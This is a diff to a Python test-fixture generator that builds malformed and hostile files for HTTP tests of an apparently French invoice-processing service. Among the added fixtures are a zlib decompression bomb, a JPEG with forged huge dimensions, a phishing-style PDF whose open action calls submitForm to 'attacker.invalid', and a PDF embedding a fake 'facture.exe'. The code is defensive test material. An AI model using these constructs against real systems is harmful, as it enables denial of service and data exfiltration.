@@ -22,7 +22,8 @@ def build(out: Path) -> dict[str, Path]:
     """Write every resource into `out`; returns name → path."""
     out.mkdir(parents=True, exist_ok=True)
     files: dict[str, bytes] = {}
-    good_pdf = _simple_pdf(["Facture d'électricité n° 12345", "Montant total TTC : 1 234,56 €"])
+    bill_lines = ["Facture d'électricité n° 12345", "Montant total TTC : 1 234,56 €"]
+    good_pdf = _simple_pdf(bill_lines)
     files["good.pdf"] = good_pdf
     files["empty.pdf"] = b""
     files["truncated.pdf"] = good_pdf[: len(good_pdf) * 6 // 10]
@@ -49,11 +50,17 @@ def build(out: Path) -> dict[str, Path]:
     files["ocr_layer_garbage.pdf"] = _scanned_with_invisible_text([garbage] * 6)
 
     files["text_flood.pdf"] = _text_flood(150_000)
+    # Added for the HTTP tests (tests/test_http_*.py).
+    files["many_pages.pdf"] = _simple_pdf(["Page"], pages=400)
+    files["flate_bomb.pdf"] = _flate_bomb(600)
+    files["javascript.pdf"] = _with_javascript(bill_lines)
+    files["embedded_file.pdf"] = _with_embedded_file(bill_lines)
 
     files["bomb.png"] = _png_header_only(100_000, 100_000)
     files["over_limit.png"] = _png_blank(9_000, 8_000)  # 72 Mpx: over 60 Mpx, under Pillow's 2x
     files["zero_size.png"] = _png_header_only(0, 0)
     files["zero_size.bmp"] = _bmp_header(0, 0)
+    files["huge_header.jpg"] = _jpeg_declaring(65_000, 65_000)
     files["truncated.jpg"] = _truncate(_jpeg(_text_image(["Facture tronquée"], (800, 1100))), 0.5)
     files["truncated.png"] = _truncate(_png(_text_image(["Facture tronquée"], (800, 1100))), 0.6)
     files["text_named.jpg"] = "Ceci n'est pas une image.\n".encode()
@@ -181,6 +188,74 @@ def _text_flood(count: int) -> bytes:
     ])
 
 
+def zlib_bomb(megabytes: int) -> bytes:
+    """A zlib stream of `megabytes` MB of spaces, about 1000 times smaller:
+    one deflate block repeated after full flushes (each starts afresh), so
+    building it does not compress the whole."""
+    block = b" " * (1 << 20)
+    compressor = zlib.compressobj(9)
+    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
+    repeat = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
+    adler = 1
+    for _ in range(megabytes):
+        adler = zlib.adler32(block, adler)
+    # a final empty fixed-Huffman block, then the checksum of the whole
+    return first + repeat * (megabytes - 1) + b"\x03\x00" + struct.pack(">I", adler)
+
+
+def _flate_bomb(megabytes: int) -> bytes:
+    """One page whose content stream is `megabytes` MB of spaces, Flate compressed."""
+    return _raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+        _stream(zlib_bomb(megabytes), b"/Filter /FlateDecode"),
+    ])
+
+
+def _text_page_objects(lines: list[str], first_number: int) -> tuple[bytes, bytes]:
+    content = b"BT /F1 14 Tf 72 760 Td 18 TL " + b" ".join(
+        b"(" + line.encode("cp1252") + b") '" for line in lines) + b" ET"
+    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
+            b"/Contents %d 0 R" % (first_number + 1))
+    return page, _stream(content)
+
+
+_HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
+
+
+def _with_javascript(lines: list[str]) -> bytes:
+    """A readable bill page with JavaScript run on opening (document and
+    page actions, document-level script), as a phishing PDF carries."""
+    page, content = _text_page_objects(lines, 4)
+    return _raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(boot) 6 0 R] >> >> >>",
+        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
+        _HELVETICA,
+        page + b" /AA << /O 6 0 R >> >>",
+        content,
+        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('JS-PAYLOAD-91c2'\\); "
+        b"this.submitForm\\('http://attacker.invalid/'\\);) >>",
+    ])
+
+
+def _with_embedded_file(lines: list[str]) -> bytes:
+    """A readable bill page with an attached executable (document-level
+    embedded file and a file attachment annotation)."""
+    payload = b"MZ\x90\x00EMBEDDED-PAYLOAD-7f3a" + bytes(range(256)) * 4
+    page, content = _text_page_objects(lines, 4)
+    return _raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(facture.exe) 6 0 R] >> >> >>",
+        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
+        _HELVETICA,
+        page + b" /Annots [8 0 R] >>",
+        content,
+        b"<< /Type /Filespec /F (facture.exe) /UF (facture.exe) /EF << /F 7 0 R >> >>",
+        _stream(payload, b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload"),
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 92 620] /FS 6 0 R /Contents (facture.exe) >>",
+    ])
+
+
 def _scanned_with_invisible_text(lines: list[str]) -> bytes:
     """A scanner's output: a full-page image with an invisible (render mode
     3) text layer on top, as OCR software adds."""
@@ -244,6 +319,15 @@ def _png_blank(width: int, height: int) -> bytes:
     data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
     ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
     return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", data) + _png_chunk(b"IEND", b"")
+
+
+def _jpeg_declaring(width: int, height: int) -> bytes:
+    """A small real JPEG whose frame header is patched to declare width ×
+    height: well formed, but decoding it would need width × height bytes."""
+    data = bytearray(_jpeg(Image.new("L", (16, 16), "white")))
+    sof = data.index(b"\xff\xc0")
+    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
+    return bytes(data)
 
 
 def _bmp_header(width: int, height: int) -> bytes:
